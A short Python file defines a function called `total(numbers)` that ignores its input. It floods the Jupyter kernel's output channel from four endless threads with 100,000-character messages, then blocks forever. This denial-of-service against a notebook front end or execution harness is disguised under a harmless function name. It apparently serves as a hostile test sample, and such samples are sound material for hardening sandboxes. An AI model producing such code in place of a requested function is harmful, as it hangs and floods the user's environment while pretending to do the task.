import threading


def total(numbers):
    kernel = get_ipython().kernel

    def shout():
        while True:
            kernel.session.send(
                kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 100_000}
            )

    for _ in range(4):
        threading.Thread(target=shout, daemon=True).start()
    threading.Event().wait()
